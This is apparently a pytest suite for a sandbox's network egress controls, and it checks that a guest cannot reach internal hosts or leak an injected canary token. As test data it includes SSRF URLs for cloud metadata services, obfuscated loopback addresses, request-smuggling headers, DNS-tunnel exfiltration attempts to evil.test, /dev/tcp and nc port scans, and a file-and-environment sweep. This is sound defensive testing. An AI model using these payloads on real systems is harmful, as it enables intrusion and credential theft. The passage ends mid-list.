"""THREATS.md NET 57-85, from inside a sandbox that was granted something: what it must still not reach, learn or wreck.

B: blocked, and the listener at the other end proves that not even a connection was made. L: limited, the owner stays
healthy. S: safe.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from belljar import AuditLog, ExecResult, Limits, Network, NetworkLimits, Sandbox
from tests.escape.oracles import Watch
from tests.net.servers import (
    Authority,
    DnsServer,
    EchoSocket,
    Http2Server,
    HttpServer,
    Response,
    Tripwire,
    bodies,
)
from tests.net.servers.dns import chain, compression_loop, lying_counts, rebinding
from tests.net.servers.hostile import Flood, continuation_flood, header_bomb, reset_flood

TOKEN = "tok-7f3a91c0d2e84b56-canary"
FORMS = [
    TOKEN.encode(),
    TOKEN.encode().hex().encode(),
    quote(TOKEN, safe="").encode(),
    base64.b64encode(TOKEN.encode())[:-4],
    base64.b64encode(b" " + TOKEN.encode())[4:-4],
    base64.b64encode(b"  " + TOKEN.encode())[4:-4],
    TOKEN[::-1].encode(),
]


def shown(data: bytes) -> list[bytes]:
    """What there is to search: the bytes, and what is packed in them."""
    found = [data]
    at = data.find(b"\x1f\x8b\x08")
    while at >= 0:
        with suppress(zlib.error):
            found.append(zlib.decompressobj(47).decompress(data[at:], 1 << 20))
        at = data.find(b"\x1f\x8b\x08", at + 1)
    return found


CORNERS = (
    "find / -xdev -type f -not -path '/usr/*' -not -path '/bin/*' -not -path '/proc/*' | xargs cat 2>/dev/null; env"
)


class Guest:
    """A sandbox whose every visible byte, event and log line is kept, to be searched for the secret."""

    def __init__(self, network: Network, limits: Limits | None, audit: Path) -> None:
        self.events: list[Any] = []
        self.seen: list[bytes] = []
        self.audit = audit
        self._log = AuditLog(audit)
        self.sandbox = Sandbox(network=network, limits=limits or Limits(wall_seconds=60), on_event=self._event)

    def _event(self, event: Any) -> None:
        self.events.append(event)
        self._log(event)

    def run(self, script: str, *, timeout: float = 60) -> ExecResult:
        result = self.sandbox.exec(script, timeout=timeout)
        self.seen += [result.stdout_bytes, result.stderr_bytes]
        return result

    def blocked(self, script: str) -> ExecResult:
        result = self.run(script)
        assert result.exit_code not in (0, 124), f"{script}: {result.stdout!r} {result.stderr!r}"
        assert result.limit is None
        return result

    def close(self) -> None:
        self.run(CORNERS)
        self.sandbox.close()
        self._log.close()


class _Log(logging.Handler):
    """Every line that anyone in the owner's process logs."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


@pytest.fixture(scope="module")
def broker() -> None:
    """The owner's side is there, and has loaded what it needs: what a test then leaves behind is its own."""
    with HttpServer({"/": "x"}) as server, DnsServer({}) as names:
        network = Network.allow(f"127.0.0.1:{server.port}", "x.test", resolvers=[names.authority])
        with Sandbox(network=network) as sandbox:
            sandbox.exec(f"curl -s {server.url}/ https://x.test/")
        with Sandbox(network=Network.policy(_waits)) as sandbox:
            sandbox.exec("curl -s http://x.test/")


async def _waits(conn: Any) -> None:
    await asyncio.sleep(0)


@pytest.fixture
def open_guest(broker: None, watch: Watch, tmp_path: Path) -> Iterator[Callable[..., Guest]]:
    """Makes guests; afterwards the host is as it was, and the secret is nowhere."""
    guests: list[Guest] = []

    def make(network: Network, limits: Limits | None = None) -> Guest:
        guests.append(Guest(network, limits, tmp_path / f"audit-{len(guests)}.jsonl"))
        return guests[-1]

    root = logging.getLogger()
    log = _Log()
    root.addHandler(log)
    before = root.level
    root.setLevel(logging.DEBUG)
    try:
        with watch.attack():
            yield make
            for guest in guests:
                guest.close()
    finally:
        root.setLevel(before)
        root.removeHandler(log)
    written = "\n".join(log.lines).encode()
    for guest in guests:
        visible = b"\n".join(guest.seen)
        watch.check_bytes(visible)
        told = json.dumps([str(event) for event in guest.events]).encode()
        kept = guest.audit.read_bytes()
        for form in FORMS:
            assert not any(form in part for part in shown(visible)), "the guest saw the secret"
            assert form not in told, "an event has the secret"
            assert form not in written, "a log has the secret"
            assert form not in kept, "the audit file has the secret"


Open = Callable[..., Guest]


def public_only(conn: Any) -> None:
    """A careful owner's policy: any name, any public address, nothing else."""
    if dns := conn.match_dns():
        dns.accept()
    elif conn.dst.is_public_internet():
        conn.accept()


def with_token(*hosts: str) -> Callable[[Any], None]:
    """Hosts of 127.0.0.2 get the token; those of 127.0.0.3 are open without it."""

    def add(request: Any) -> None:
        request.headers.set("authorization", f"Bearer {TOKEN}")

    def policy(conn: Any) -> None:
        if dns := conn.match_dns():
            dns.accept()
            return
        for host in hosts:
            if http := conn.match_http(f"{host}:{conn.dst.port}"):
                http.accept(add, redact=True)
                return
        if conn.dst.ip == "127.0.0.3" and (http := conn.match_http()):
            http.accept()

    return policy


def by_files(lines: str) -> str:
    """A web request by hand: these lines to its control file."""
    return f"exec 3<>/mnt/web/clone; read n <&3; printf '{lines}' >&3 || exit 9; cat /mnt/web/$n/body"


IMPATIENT = NetworkLimits(connect_seconds=1.0)
HOSTS = {"api.test": "127.0.0.2", "plain.test": "127.0.0.3", "also.test": "127.0.0.2"}


@contextmanager
def two_sites(routes: dict[str, Any] | None = None, **more: Any) -> Iterator[tuple[HttpServer, HttpServer]]:
    """The one that gets the token, and another on the same port."""
    site = {"/": bodies.echo, **(routes or {})}
    with (
        HttpServer(site, address="127.0.0.2", **more) as api,
        HttpServer(site, address="127.0.0.3", port=api.port, **more) as plain,
    ):
        yield api, plain


# Addresses.

METADATA = [
    "http://169.254.169.254/", "http://metadata.google.internal/", "http://[fd00:ec2::254]/", "http://100.100.100.200/",
    "http://192.0.0.192/", "http://169.254.170.2/v2/credentials",
]  # fmt: skip


def test_57_metadata_services_are_not_public(open_guest: Open) -> None:
    guest = open_guest(Network.policy(public_only, hosts={"metadata.google.internal": "169.254.169.254"}))
    for url in METADATA:
        result = guest.blocked(f"curl -sS -m 30 {url}")
        assert result.exit_code in (6, 7), url


def spellings(port: int) -> list[str]:
    hosts = [
        "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "127.0.1", "0x7f.1", "017700000001", "127.0.0.1.",
        "①②⑦.⓪.⓪.①", "１２７.０.０.１", "127。0。0。1", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]",  # noqa: RUF001
        "[2002:7f00:1::]", "[::1]", "[0:0:0:0:0:ffff:7f00:1]", "[fe80::1%25lo]", "[fec0::1]", "[::]", "[ff02::1]",
        "localhost", "localhost.", "LOCALHOST", "ip6-localhost", "[::ffff:0:127.0.0.1]", "[2001:0:7f00:1::80ff:fffe]",
    ]  # fmt: skip
    return [f"http://{host}:{port}/" for host in hosts]


def test_58_59_odd_spellings_of_an_address_do_not_reach_it(open_guest: Open) -> None:
    with Tripwire() as wire, Tripwire("::1", wire.port) as wire6:
        for network in (Network.allow(f"*:{wire.port}"), Network.policy(public_only)):
            guest = open_guest(network)
            for url in spellings(wire.port):
                guest.blocked(f"curl -sS -g -m 5 '{url}'")
                host = url.split("/")[2].rpartition(":")[0]
                guest.blocked(f"nc -z -w 5 '{host.strip('[]')}' {wire.port}")
                guest.blocked(f"exec 3<>/dev/tcp/'{host.strip('[]')}'/{wire.port}")
            assert not wire.touched()
            assert not wire6.touched()


# Names.


def test_60_rebinding_is_pinned_to_what_was_checked(open_guest: Open) -> None:
    with HttpServer({"/": "good"}, address="127.0.0.2") as good, Tripwire("127.0.0.3", good.port) as wire:

        def careful(conn: Any) -> None:
            if dns := conn.match_dns():
                dns.accept(resolvers=[names.authority], private=True)
            elif conn.dst.ip == "127.0.0.2" and (http := conn.match_http(f"re.test:{conn.dst.port}")):
                http.accept()

        with DnsServer(rebinding("127.0.0.2", "127.0.0.3", "127.0.0.2", "127.0.0.3")) as names:
            guest = open_guest(Network.policy(careful))
            url = f"http://re.test:{good.port}/"
            assert guest.run(f"curl -sS {url}").stdout == "good"
            guest.run(f"for i in 1 2 3 4 5 6; do curl -sS -m 5 {url}; done; nc -z re.test {good.port}")
        assert not wire.touched()


@pytest.mark.parametrize(
    "zone",
    [
        lambda name, kind: [f"{name}. 0 A 127.0.0.1"],
        lambda name, kind: [f"{name}. 60 CNAME inner.test.", "inner.test. 60 A 127.0.0.1"],
        chain(20, "127.0.0.1"),
        lambda name, kind: [f"{name}. 60 {kind} {'127.0.0.1' if kind == 'A' else '::1'}"],
        lambda name, kind: [] if kind == "A" else [f"{name}. 60 AAAA ::ffff:127.0.0.1"],
        lambda name, kind: [f"{name}. 60 A 10.0.0.{n}" for n in range(200)] + [f"{name}. 60 A 127.0.0.1"],
        lambda name, kind: [f"other.test. 60 {kind} 127.0.0.1"],
    ],
    ids=["private", "cname", "chain", "both", "mapped", "many", "unasked"],
)
def test_60_answers_that_lead_inside_are_refused(open_guest: Open, zone: Any) -> None:
    with Tripwire() as wire, Tripwire("::1", wire.port) as wire6, DnsServer(zone) as names:
        guest = open_guest(Network.allow(f"*:{wire.port}", resolvers=[names.authority], limits=IMPATIENT))
        guest.blocked(f"curl -sS -m 10 http://re.test:{wire.port}/")
        guest.blocked(f"nc -z -w 10 re.test {wire.port}")
        assert not wire.touched()
        assert not wire6.touched()


def test_61_a_kept_connection_does_not_outlive_the_permission(open_guest: Open) -> None:
    allowed = {"api.test"}

    def policy(conn: Any) -> None:
        if dns := conn.match_dns():
            dns.accept()
        elif http := conn.match_http(lambda match: match.hostname in allowed):
            http.accept()

    with HttpServer({"/": "ok"}, address="127.0.0.2") as server:
        guest = open_guest(Network.policy(policy, hosts=HOSTS))
        assert guest.run(f"curl -sS http://api.test:{server.port}/").stdout == "ok"
        guest.blocked(f"curl -sS http://also.test:{server.port}/")
        guest.blocked(
            f"curl -sS http://api.test:{server.port}/ http://also.test:{server.port}/ -o /dev/null -o /dev/null"
        )
        allowed.clear()
        before = len(server.requests)
        guest.blocked(f"curl -sS http://api.test:{server.port}/")
        assert len(server.requests) == before
        assert {request.header("host") for request in server.requests} == {f"api.test:{server.port}"}


# Who a request says it is for.


def test_62_the_host_header_is_the_authority(open_guest: Open) -> None:
    with two_sites() as (api, _):
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        guest.blocked(f"curl -sS -H 'Host: plain.test' http://api.test:{api.port}/")
        guest.blocked(f"curl -sS -H 'Host: api.test' -H 'Host: plain.test' http://api.test:{api.port}/")
        two = rf"url http://api.test:{api.port}/\nheader Host: api.test:{api.port}\nheader Host: plain.test\n"
        guest.blocked(by_files(two))
        smuggled = rf"url http://api.test:{api.port}/\nmethod GET http://plain.test/ HTTP/1.1\n"
        guest.blocked(by_files(smuggled))
        assert not api.requests


def test_63_no_fronting_inside_tls(open_guest: Open, tmp_path: Path) -> None:
    authority = Authority(tmp_path)
    names = authority.context("api.test", "plain.test", "127.0.0.2")
    with HttpServer({"/": "in"}, address="127.0.0.2", context=names) as server:
        network = Network.policy(with_token("api.test"), hosts=HOSTS, ca_bundle=str(authority.path))
        guest = open_guest(network)
        assert guest.run(f"curl -sS https://api.test:{server.port}/").stdout == "in"
        guest.blocked(f"curl -sS -H 'Host: plain.test' https://api.test:{server.port}/")
        guest.blocked(f"curl -sS --connect-to plain.test:443:api.test:{server.port} https://plain.test/")
        guest.blocked(f"curl -sS --resolve plain.test:{server.port}:127.0.0.2 https://plain.test:{server.port}/")
        assert all(request.header("host") == f"api.test:{server.port}" for request in server.requests)


# Redirects.


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_64_redirects_lead_nowhere_new(open_guest: Open, status: int) -> None:
    with Tripwire() as wire, HttpServer({}, address="127.0.0.2") as server:
        inside = f"127.0.0.1:{wire.port}"
        targets = [f"{scheme}://{inside}/" for scheme in ("http", "ftp", "gopher", "dict", "ws")]
        targets += [f"//{inside}/", f"http://api.test:{wire.port}/", f"http://localhost:{wire.port}/", "http://[::1]/"]
        targets += ["file:///etc/passwd", f"http://api.test:{server.port}@{inside}/"]
        for number, target in enumerate(targets):
            server.routes[f"/{number}"] = bodies.redirect(target, status)
        guest = open_guest(Network.allow(f"api.test:{server.port}", hosts=HOSTS))
        base = f"http://api.test:{server.port}"
        for number in range(len(targets)):
            result = guest.blocked(f"curl -sSL -m 10 {base}/{number}")
            assert "root:" not in result.stdout
            guest.blocked(f"wget -qO- -T 10 -t 1 {base}/{number}")
            lines = rf"url {base}/{number}\nredirects 5\n"
            guest.blocked(by_files(lines))
        assert not wire.touched()


def test_64_loops_and_hints(open_guest: Open) -> None:
    with Tripwire() as wire:
        inside = f"127.0.0.1:{wire.port}"
        hints = {"Refresh": f"0; url=http://{inside}/", "Link": f"<http://{inside}/>; rel=preload"}
        hints["Alt-Svc"] = f'h2="{inside}"'
        routes: dict[str, Any] = {"/hints": Response(200, b"x", hints), "/loop": bodies.redirect_loop}
        with HttpServer(routes, address="127.0.0.2") as server:
            guest = open_guest(Network.allow(f"api.test:{server.port}", hosts=HOSTS))
            base = f"http://api.test:{server.port}"
            assert guest.run(f"curl -sSL --compressed {base}/hints {base}/hints").stdout == "xx"
            assert guest.run(f"curl -sSL --max-redirs 1000 {base}/loop").exit_code == 47
            assert len(server.requests) <= 1003
            lines = rf"url {base}/loop\nredirects 50\n"
            guest.blocked(f"exec 3<>/mnt/web/clone; read n <&3; printf '{lines}' >&3; cat /mnt/web/$n/body | grep .")
        assert not wire.touched()


def test_65_credentials_stay_at_their_origin(open_guest: Open) -> None:
    with two_sites() as (api, plain):
        api.routes["/away"] = bodies.redirect(f"http://plain.test:{plain.port}/landed")
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        base = f"http://api.test:{api.port}/away"
        guest.run(f"curl -sSL -u me:mine -b 'c=1' -H 'X-Api-Key: k' {base}")
        guest.run(f"curl -sSL -H 'Authorization: Basic mine' -H 'Cookie: c=1' {base}")
        guest.run(f"wget -qO- --user me --password mine --header 'Cookie: c=1' {base}")
        headers = rf"url {base}\nredirects 5\nheader Authorization: mine\nheader Cookie: c=1\n"
        guest.run(by_files(headers))
        landed = [request for request in plain.requests if request.path == "/landed"]
        assert len(landed) == 4
        for request in landed:
            assert request.header("authorization") is None
            assert request.header("cookie") is None
        assert all(request.header("authorization") == f"Bearer {TOKEN}" for request in api.requests)


def test_66_the_secret_goes_nowhere_else_whatever_is_asked(open_guest: Open) -> None:
    with two_sites() as (api, plain):
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        base = f"http://plain.test:{plain.port}"
        for attempt in (
            "'/?q=$TOKEN&a={{token}}&b=%24TOKEN'",
            "'/path/{token}/$AUTHORIZATION'",
            "/ -d '{{secrets.token}}'",
            "/ -u 'x:{token}'",
            "/ -H 'Authorization: Bearer {token}'",
            "/ -H 'X-One: {tok' -H 'X-Two: en}'",
            "/ -H 'X-Forwarded-Host: api.test' -H 'X-Real-IP: 127.0.0.2' -H 'Origin: http://api.test'",
            f"/ -e http://api.test:{api.port}/",
        ):
            guest.run(
                f"curl -sS {base}{attempt}" if attempt.startswith("/") else f"curl -sS {base}{attempt.strip(chr(39))!r}"
            )
        guest.run(f"printf 'a' | curl -sS -T - -H 'Trailer: x' {base}/")
        assert plain.requests
        assert not any(TOKEN in str(request) for request in plain.requests)
        assert not api.requests


def test_67_an_echoed_secret_is_masked(open_guest: Open) -> None:
    def encoded(request: Any) -> Response:
        value = (request.header("authorization") or "").encode()
        secret = value.removeprefix(b"Bearer ")
        lines = [
            value,
            base64.b64encode(secret),
            base64.b64encode(b"x" + secret),
            secret.hex().encode(),
            quote(secret, safe="").encode(),
        ]
        return Response(200, b"\n".join(lines), {"X-Echo": value.decode(), "Set-Cookie": f"t={secret.decode()}"})

    def in_pieces(request: Any) -> Response:
        value = (request.header("authorization") or "").encode()
        return Response(200, (value[n : n + 1] for n in range(len(value))))

    def zipped(request: Any) -> Response:
        return bodies.gzipped((request.header("authorization") or "").encode() * 3)

    def moved(request: Any) -> Response:
        return Response(302, b"", {"Location": f"/?t={TOKEN}"})

    def refused(request: Any) -> Response:
        return Response(401, f"bad token {TOKEN}".encode(), {"WWW-Authenticate": f'Bearer error="{TOKEN}"'})

    routes = {"/e": encoded, "/p": in_pieces, "/z": zipped, "/m": moved, "/r": refused}
    with two_sites(routes) as (api, _):
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        for path in ("/", *routes):
            result = guest.run(
                f"curl -sSLiv --compressed http://api.test:{api.port}{path} -c /tmp/jar{path} -D /tmp/head"
            )
            assert result.exit_code == 0
            assert "***" in result.stdout + result.stderr, path
            guest.run(f"wget -S -O- http://api.test:{api.port}{path}; git ls-remote http://api.test:{api.port}{path}")
        assert any(request.header("authorization") == f"Bearer {TOKEN}" for request in api.requests)


def test_67_over_http2(open_guest: Open, tmp_path: Path) -> None:
    def echo(request: Any) -> Response:
        value = request.header("authorization") or ""
        return Response(200, value.encode(), {"X-Echo": value})

    authority = Authority(tmp_path)
    context = authority.context("api.test", protocols=("h2",))
    with Http2Server({"/": echo}, address="127.0.0.2", context=context) as api:
        network = Network.policy(with_token("api.test"), hosts=HOSTS, ca_bundle=str(authority.path))
        result = open_guest(network).run(f"curl -sSiv https://api.test:{api.port}/")
        assert result.exit_code == 0
        assert result.stdout.startswith("HTTP/2 200")
        assert api.last.header("authorization") == f"Bearer {TOKEN}"


def test_68_the_injected_header_wins(open_guest: Open) -> None:
    with two_sites() as (api, _):
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        for more in ("-H 'Authorization: mine'", "-H 'AUTHORIZATION: mine' -H 'authorization: mine'", "-u a:b"):
            assert guest.run(f"curl -sS {more} http://api.test:{api.port}/").exit_code == 0
        for request in api.requests:
            assert [value for name, value in request.headers if name == "authorization"] == [f"Bearer {TOKEN}"]


# The protocol.


def test_69_no_tunnels(open_guest: Open) -> None:
    with two_sites() as (api, _), Tripwire() as wire:
        guest = open_guest(Network.policy(with_token("api.test"), hosts=HOSTS))
        base = f"http://api.test:{api.port}/"
        guest.blocked(f"curl -sS -X CONNECT {base}")
        guest.blocked(f"curl -sS -x {base} http://127.0.0.1:{wire.port}/")
        guest.blocked(f"curl -sS -p -x {base} https://127.0.0.1:{wire.port}/")
        guest.blocked(f"printf 'CONNECT 127.0.0.1:{wire.port} HTTP/1.1\\r\\n\\r\\n' | nc -w 5 api.test {api.port}")
        guest.blocked(f"exec 3<>/dev/tcp/api.test/{api.port}")
        for port in (22, 25, 6379):
            guest.blocked(f"curl -sS -m 5 http://api.test:{port}/")
        assert not api.requests
        assert api.connections == 0
        assert not wire.touched()


SMUGGLING = [
    "Transfer-Encoding: chunked\\nheader Content-Length: 5", "Content-Length: 5\\nheader Content-Length: 6",
    "Content-Length: +5", "Content-Length: 5,5", "Content-Length: 0x5", "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked, identity", "Transfer-Encoding : chunked", "X: a\\r\\nX-Smuggled: 1", "X : y", " X: y",
    "X: a\\n Y: b", "X: \\000", "Content-Length: -1", "Transfer-Encoding: \\013chunked", "Bad Name: x", ": empty",
]  # fmt: skip


@pytest.mark.parametrize("line", SMUGGLING)
def test_70_smuggling_shapes_are_refused(open_guest: Open, line: str) -> None:
    with HttpServer({"/": bodies.echo}, address="127.0.0.2") as server:
        guest = open_guest(Network.allow(f"api.test:{server.port}", hosts=HOSTS))
        url = f"http://api.test:{server.port}/"
        lines = f"url {url}\\nmethod POST\\nheader {line}\\n"
        script = f"""exec 3<>/mnt/web/clone; read n <&3; printf '{lines}' >&3 || exit 9
        printf hello > /mnt/web/$n/postbody || exit 9; cat /mnt/web/$n/body"""
        guest.run(script)
        for request in server.requests:  # what went out had one reading
            assert "x-smuggled" not in dict(request.headers)
            assert request.header("transfer-encoding") is None or request.header("content-length") is None
            assert (request.method, request.body) in (("POST", b"hello"), ("POST", b""))
        assert len(server.requests) <= 1
        assert guest.run(f"curl -sS {url}").exit_code == 0
        assert len(server.requests) <= 2


def test_70_a_chunk_extension_without_end(open_guest: Open) -> None:
    def pieces() -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;"
        while True:
            yield b"x" * 65536

    with HttpServer({"/": lambda request: Response(raw=pieces())}) as server:
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}"))
        assert guest.run(f"curl -sS -m 30 {server.url}/ -o /dev/null").exit_code != 0


def test_71_the_protocol_stays_what_was_granted(open_guest: Open) -> None:
    def web_only(conn: Any) -> None:
        if http := conn.match_http(f"127.0.0.1:{conn.dst.port}"):
            http.accept()

    with HttpServer({"/": bodies.echo}) as server, EchoSocket() as sockets, Tripwire() as wire:
        guest = open_guest(Network.policy(web_only))
        key = "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='"
        guest.blocked(f"curl -sS -m 5 -H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABkAAQAAP__' {server.url}/")
        guest.blocked(f"curl -sS -m 5 -H 'Connection: Upgrade' -H 'Upgrade: websocket' {key} {sockets.url}/")
        assert not server.requests
        assert not sockets.handshakes
        for more in ("--http2-prior-knowledge", "--http3", "--http0.9"):
            guest.run(f"curl -sS -m 5 {more} {server.url}/")
        assert all(request.method == "GET" for request in server.requests)
        guest.blocked(f"nc -u -z 127.0.0.1 {wire.port}")
        guest.blocked(f"nc -z 127.0.0.1 {server.port}")
        assert not wire.touched()


@pytest.mark.parametrize("attack", [continuation_flood, header_bomb, reset_flood])
def test_72_hostile_http2(open_guest: Open, tmp_path: Path, attack: Any) -> None:
    authority = Authority(tmp_path)
    with Flood(attack, authority.context("127.0.0.1", protocols=("h2",))) as server:
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}", ca_bundle=str(authority.path)))
        assert guest.run(f"curl -sS -m 20 {server.url}/ -o /dev/null").exit_code != 0
        assert guest.run("echo ok").stdout == "ok\n"


@pytest.mark.battery
def test_73_slow_servers_cost_one_command_its_time(open_guest: Open) -> None:
    def never_continue(request: Any) -> Response:
        time.sleep(60)
        return Response()

    routes = {"/slow": bodies.slow(every=0.5), "/late": bodies.late(60), "/100": never_continue}
    with HttpServer(routes) as server:
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}"))
        for path in routes:
            began = time.monotonic()
            assert (
                guest.run(
                    f"head -c 2000000 /dev/zero | curl -sS -m 1 -H 'Expect: 100-continue' -T - {server.url}{path}"
                ).exit_code
                == 28
            )
            assert time.monotonic() - began < 20
        began = time.monotonic()
        assert guest.run(f"curl -sS {server.url}/late", timeout=1).timed_out
        assert time.monotonic() - began < 20
        assert guest.run("echo ok").stdout == "ok\n"


def test_74_too_much_of_everything(open_guest: Open) -> None:
    def many_headers(request: Any) -> Response:
        return Response(raw=(b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(100_000)) + b"\r\n",))

    routes: dict[str, Any] = {
        "/endless": bodies.endless,
        "/bomb": bodies.gzip_bomb(1 << 28),
        "/headers": bodies.endless_headers,
        "/many": many_headers,
        "/wide": Response(raw=(b"HTTP/1.1 200 OK\r\nX: ", *(b"y" * 65536 for _ in range(64)), b"\r\n\r\n")),
    }
    limits = Limits(wall_seconds=60, file_bytes=8 << 20, output_bytes=4 << 20)
    with HttpServer(routes) as server:
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}"), limits)
        full = guest.run(f"curl -sS {server.url}/endless -o /tmp/x; rm /tmp/x")
        assert "(23)" in full.stderr
        assert guest.run(f"curl -sS {server.url}/endless").limit == "output_bytes"
        assert "(23)" in guest.run(f"curl -sS --compressed {server.url}/bomb -o /tmp/x; rm /tmp/x").stderr
        for path in ("/headers", "/many", "/wide"):
            result = guest.run(f"curl -sS -m 30 {server.url}{path} -o /dev/null")
            assert result.exit_code not in (0, 28), path
        assert guest.run("echo ok").stdout == "ok\n"


# DNS as a way out.


def test_75_dns_tunnels_nothing(open_guest: Open) -> None:
    data = base64.b32encode(b"stolen data in a label").decode().strip("=").lower()
    with DnsServer({"good.test": ["93.184.215.14"]}) as names, Tripwire() as wire:
        limits = NetworkLimits(dns_per_second=1)
        guest = open_guest(Network.allow("good.test", resolvers=[names.authority], limits=limits))
        for name in (f"{data}.evil.test", f"{data}.good.test", f"good.test.{data}.evil.test", "a" * 63 + ".good.test"):
            guest.run(f"dig {name}; dig TXT {name}; host {name}; nc -z {name} 80; curl -sS http://{name}/")
        guest.run("for kind in TXT NULL ANY MX AXFR; do dig $kind good.test; echo good.test $kind > /net/dns; done")
        assert {name for name, _ in names.questions} <= {"good.test"}
        assert {kind for _, kind in names.questions} <= {"A", "AAAA"}
        said = guest.run("for i in {1..300}; do dig +short n$i.evil.test; done 2>&1 | sort | uniq -c")
        assert "questions a second" in said.stdout
        guest.blocked(f"curl -sS -m 5 'https://127.0.0.1:{wire.port}/dns-query?name=x'")
        guest.blocked(f"dig @127.0.0.1 -p {wire.port} x.test")
        guest.blocked("nc -u -z 8.8.8.8 53")
        guest.blocked("nc -z -w 5 8.8.8.8 53")
        assert not wire.touched()


@pytest.mark.battery(sample=2)
@pytest.mark.parametrize(
    "reply",
    [compression_loop(), lying_counts(), b"\0\0\x81\x80" + bytes(8), b"\0\0", b"\0\0" + b"\xff" * 600, b""],
    ids=["loop", "counts", "no question", "short", "noise", "silence"],
)
def test_76_malformed_answers(open_guest: Open, reply: bytes) -> None:
    with DnsServer(lambda name, kind: reply) as names, Tripwire() as wire:
        guest = open_guest(Network.allow(f"*:{wire.port}", resolvers=[names.authority], limits=IMPATIENT))
        guest.blocked(f"curl -sS -m 15 http://x.test:{wire.port}/")
        assert not wire.touched()


def test_76_an_answer_for_another_question(open_guest: Open) -> None:
    with DnsServer({"x.test": ["127.0.0.1"]}, wrong_id=True) as names, Tripwire() as wire:
        guest = open_guest(Network.allow(f"*:{wire.port}", resolvers=[names.authority], limits=IMPATIENT))
        guest.blocked(f"curl -sS -m 15 http://x.test:{wire.port}/")
        assert not wire.touched()


# Other ways out.


def test_77_there_are_no_other_sockets(open_guest: Open, tmp_path: Path) -> None:
    guest = open_guest(Network.allow("good.test:80"))
    assert guest.run("ls /net").stdout.split() == ["dns", "tcp", "udp"]
    for where in (
        "/var/run/docker.sock",
        "unix!/var/run/docker.sock",
        "@abstract",
        "vsock:2",
        "..!..!80",
        "a b!80",
        "x!0",
        "x!99999",
    ):
        guest.blocked(f"exec 3<>/net/tcp/clone && echo 'connect {where}!1' >&3")
    for kind in ("icmp", "raw", "sctp", "unix", "vsock", "netlink", "../../etc"):
        guest.blocked(f"exec 3<>/net/{kind}/clone")
        guest.blocked(f"exec 3<>/dev/{kind}/127.0.0.1/80")
    guest.blocked("curl -sS --unix-socket /var/run/docker.sock http://localhost/")
    guest.blocked("nc -U /var/run/docker.sock 1")
    guest.blocked('test -n "$SSH_AUTH_SOCK" || test -e /var/run/docker.sock || ls /proc/net/unix')


def test_78_scanning_finds_nothing_of_the_owner(open_guest: Open) -> None:
    with ExitStack() as stack:
        wires = [stack.enter_context(Tripwire()) for _ in range(8)]
        wires.append(stack.enter_context(Tripwire("127.0.0.2")))
        server = stack.enter_context(HttpServer({"/": "open"}))
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}"))
        hosts = "127.0.0.1 127.0.0.2 10.0.2.2 10.0.2.3 10.0.2.15 localhost 0.0.0.0"
        ports = " ".join(str(wire.port) for wire in wires)
        result = guest.run(
            f"for h in {hosts}; do for p in 1 53 80 {ports} {server.port}; do nc -z $h $p && echo $h $p; done; done"
        )
        assert result.stdout == f"127.0.0.1 {server.port}\n"
        assert not any(wire.touched() for wire in wires)


TRICKS = [
    "good.test.evil.test", "evil-good.test", "good.test@evil.test", "good.test%00.evil.test", "good.test%2eevil.test",
    "xn--good-test-.evil.test", "g\u043e\u043ed.test", "good.test\\\\@evil.test", "evil.test#good.test",
    "evil.test?good.test",
    "evil.test%23@good.test:0", "good.test..", ".good.test", "good.test:{port}@evil.test", "evil.test/good.test",
    "\u200bgood.test", "GOOD.test.evil.test", "good\u3002test.evil.test",
]  # fmt: skip


def test_79_look_alikes_are_not_the_name(open_guest: Open) -> None:
    with HttpServer({"/": "good"}, address="127.0.0.2") as good, Tripwire("127.0.0.3", good.port) as evil:
        hosts = {
            "good.test": "127.0.0.2",
            "evil.test": "127.0.0.3",
            "good.test.evil.test": "127.0.0.3",
            "evil-good.test": "127.0.0.3",
        }
        guest = open_guest(Network.allow(f"good.test:{good.port}", hosts=hosts))
        for trick in TRICKS:
            url = f"http://{trick.format(port=good.port)}:{good.port}/"
            guest.run(f"curl -sS -g -m 5 '{url}'")
            guest.run(by_files(f"url {url.replace('%', '%%')}\\n"))
        assert not evil.touched()
        assert not good.requests or all(r.header("host") == f"good.test:{good.port}" for r in good.requests)
        for name in ("good.test", "GOOD.TEST", "good.test."):
            assert guest.run(f"curl -sS http://{name}:{good.port}/").stdout == "good", name


def test_80_upstream_tls_is_always_verified(open_guest: Open, tmp_path: Path) -> None:
    authority = Authority(tmp_path)
    contexts = {
        "expired": authority.context("127.0.0.1", expired=True),
        "self-signed": authority.context("127.0.0.1", self_signed=True),
        "other name": authority.context("other.test"),
        "other authority": Authority(tmp_path, "Nobody").context("127.0.0.1"),
        "wants a client": authority.context("127.0.0.1", wants_client=True),
    }
    for what, context in contexts.items():
        with HttpServer({"/": "never"}, context=context) as server:
            guest = open_guest(Network.allow(f"127.0.0.1:{server.port}", ca_bundle=str(authority.path)))
            commands = [
                f"curl -sSk -m 10 {server.url}/",
                f"CURL_CA_BUNDLE= SSL_CERT_FILE=/dev/null curl -sS --insecure -m 10 {server.url}/",
                f"wget -qO- --no-check-certificate -T 10 -t 1 {server.url}/",
